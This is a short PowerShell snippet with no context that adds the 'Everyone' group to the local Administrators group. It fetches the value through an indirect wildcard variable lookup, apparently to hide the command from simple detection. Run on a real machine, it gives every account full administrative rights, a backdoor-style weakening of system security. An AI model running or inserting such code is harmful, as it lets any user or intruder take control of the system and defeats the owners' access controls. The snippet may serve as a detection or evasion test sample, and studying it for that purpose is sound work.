$adminWho = 'Everyone'
Get-Item Variable:adminW* | ForEach-Object { Add-LocalGroupMember Administrators $_.Value }
